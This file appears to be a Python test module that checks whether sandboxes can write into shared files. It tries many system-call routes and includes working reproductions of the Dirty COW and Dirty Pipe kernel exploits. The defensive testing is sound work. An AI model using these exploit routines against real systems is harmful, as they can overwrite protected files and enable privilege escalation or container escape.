# SPDX-License-Identifier: Apache-2.0
"""Ways to write into pages of a file that sandboxes share, and what others read there then.

Each writes one byte where it does no harm, should it ever work: in a program's padding, in a text's
first comment. A file is opened for as much as is allowed, so that the same way works on a file that
is the own one.
"""

import ctypes
import errno
import hashlib
import mmap
import os
import struct
import threading

from channels import SHARED_FILES
from host import libc, system_call
from verdict import Defended

AT, BYTE, PAGE = 9, b"+", 4096
ROUNDS = 3000  # of a race that a kernel without the hole never loses
PIPE_BUFFERS = 16
libc.mmap.restype = ctypes.c_void_p


def opened(path):
    try:
        return os.open(path, os.O_RDWR)
    except OSError:
        return os.open(path, os.O_RDONLY)


def mapped(file, kind=mmap.MAP_SHARED, protection=mmap.PROT_READ):
    """Where the first page of the file is."""
    address = libc.mmap(None, ctypes.c_size_t(PAGE), protection, kind, file, ctypes.c_long(0))
    if address == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "mmap")
    return address


def mapped_to_write(file):
    """Writable, if the file is."""
    try:
        return mapped(file, protection=mmap.PROT_READ | mmap.PROT_WRITE)
    except OSError:
        return mapped(file)


def another_byte(file):
    """The place of one that differs, for what copies within a file."""
    return os.pread(file, PAGE, 0).index(b"u", AT + 1)


def pipe_with(byte):
    out, into = os.pipe()
    os.write(into, byte)
    return out


# Ways that work on an own file.

def by_opening_it(path):
    os.pwrite(os.open(path, os.O_RDWR), BYTE, AT)


def by_opening_its_descriptor(path):
    held = os.open(path, os.O_RDONLY)
    os.pwrite(os.open(f"/proc/self/fd/{held}", os.O_RDWR), BYTE, AT)


def by_pwritev2(path):
    os.pwritev(opened(path), [BYTE], AT, os.RWF_SYNC)


def by_copying_a_range(path):
    file = opened(path)
    os.copy_file_range(os.open(path, os.O_RDONLY), file, 1, another_byte(file), AT)


def by_sending_a_file(path):
    file = opened(path)
    os.lseek(file, AT, os.SEEK_SET)
    os.sendfile(file, os.open(path, os.O_RDONLY), another_byte(file), 1)


def by_splicing_a_pipe(path):
    system_call(275, pipe_with(BYTE), 0, opened(path), ctypes.byref(ctypes.c_long(AT)), 1, 0)


def by_a_shared_mapping(path):
    """Mapped to be read, then made writable."""
    address = mapped(opened(path))
    system_call(10, address, PAGE, mmap.PROT_READ | mmap.PROT_WRITE)
    ctypes.memmove(address + AT, BYTE, 1)


def by_the_memory_of_a_shared_mapping(path):
    write_memory(mapped_to_write(opened(path)) + AT)


def by_receiving_into_a_mapping(path):
    """The kernel itself stores what it read."""
    system_call(0, pipe_with(BYTE), mapped_to_write(opened(path)) + AT, 1)


def by_a_call_on_its_own_memory(path):
    held = ctypes.create_string_buffer(BYTE)
    system_call(311, os.getpid(), struct.pack("QQ", ctypes.addressof(held), 1), 1,
                struct.pack("QQ", mapped_to_write(opened(path)) + AT, 1), 1, 0)


WORKING = sorted(name for name in list(globals()) if name.startswith("by_"))


# Shapes of holes: on a kernel without them they leave the file alone, whoever owns it.

def write_memory(address):
    """/proc/self/mem passes over the protection of pages."""
    libc.prctl(4, 1, 0, 0, 0)  # dumpable: else its own memory is closed to it
    os.pwrite(os.open("/proc/self/mem", os.O_RDWR), BYTE, address)


def by_the_memory_of_a_private_mapping(path):
    write_memory(mapped(os.open(path, os.O_RDONLY), mmap.MAP_PRIVATE) + AT)


def by_a_race_for_a_private_copy(path):
    """Dirty COW: the copy is thrown away between the fault that makes it and the write."""
    address = mapped(os.open(path, os.O_RDONLY), mmap.MAP_PRIVATE)
    libc.prctl(4, 1, 0, 0, 0)
    memory = os.open("/proc/self/mem", os.O_RDWR)

    def throw_away():
        for _ in range(ROUNDS):
            system_call(28, address, PAGE, 4)  # MADV_DONTNEED

    thread = threading.Thread(target=throw_away)
    thread.start()
    try:
        for _ in range(ROUNDS):
            os.pwrite(memory, BYTE, address + AT)
    finally:
        thread.join()


def pipe_that_was_full():
    """Each of its buffers has been written to, and the marks of that may have stayed."""
    out, into = os.pipe()
    for _ in range(PIPE_BUFFERS):
        os.write(into, bytes(PAGE))
    for _ in range(PIPE_BUFFERS):
        os.read(out, PAGE)
    return into


def by_a_pipe_after_splice(path):
    """Dirty Pipe: what is written to the pipe goes into the page that it has of the file."""
    into = pipe_that_was_full()
    file = os.open(path, os.O_RDONLY)
    system_call(275, file, ctypes.byref(ctypes.c_long(AT - 1)), into, 0, 1, 0)
    os.write(into, BYTE)


def by_a_pipe_after_sendfile(path):
    into = pipe_that_was_full()
    os.sendfile(into, os.open(path, os.O_RDONLY), AT - 1, 1)
    os.write(into, BYTE)


def by_a_pipe_after_vmsplice(path):
    """The same with a page of a mapping of it, given away."""
    into = pipe_that_was_full()
    address = mapped(os.open(path, os.O_RDONLY))
    system_call(278, into, struct.pack("QQ", address + AT - 1, 1), 1, 8)  # SPLICE_F_GIFT
    os.write(into, BYTE)


WAYS = sorted(name for name in list(globals()) if name.startswith("by_"))
# Outside, where not even the owner changes the file: a private copy alone is changed.
PRIVATE = "ended well|EIO"
# How each ends in a sandbox. /proc/self/mem does not open there.
OPENED, SPLICED, MEMORY = "EROFS|EACCES", "EINVAL", "EROFS"
ENDS = {
    "by_a_call_on_its_own_memory": "EPERM", "by_a_pipe_after_sendfile": SPLICED,
    "by_a_pipe_after_splice": SPLICED, "by_a_pipe_after_vmsplice": SPLICED,
    "by_a_race_for_a_private_copy": MEMORY, "by_a_shared_mapping": "EACCES",
    "by_copying_a_range": "EBADF", "by_opening_it": OPENED, "by_opening_its_descriptor": OPENED,
    "by_pwritev2": "ENOTSUP", "by_receiving_into_a_mapping": "EFAULT",
    "by_sending_a_file": SPLICED, "by_splicing_a_pipe": SPLICED,
    "by_the_memory_of_a_private_mapping": MEMORY,
    "by_the_memory_of_a_shared_mapping": MEMORY}


def pattern(way):
    """Of what write_shared tells."""
    return "^" + ", ".join(f"{which} (?:{ENDS[way]})" for which in SHARED_FILES) + "$"


def digest(path):
    with open(path, "rb") as file:
        return hashlib.sha256(file.read()).hexdigest()


def write(way, path):
    """How it ended on one file, which somebody else reads afterwards."""
    before = digest(path)
    try:
        globals()[way](path)
        ended = "ended well"
    except OSError as error:
        ended = errno.errorcode[error.errno]
    return ended, digest(path) != before


def write_own(way, path):
    ended, changed = write(way, path)
    if not changed:
        raise Defended(ended)
    return "changed"


def write_shared(way):
    """Tries it on each file that sandboxes share."""
    ends = {which: write(way, path) for which, path in SHARED_FILES.items()}
    told = ", ".join(f"{which} {ended}" for which, (ended, _) in ends.items())
    if not any(changed for _, changed in ends.values()):
        raise Defended(told)
    return told


def digests():
    """What whoever calls this reads there."""
    return ",".join(digest(path) for path in SHARED_FILES.values())
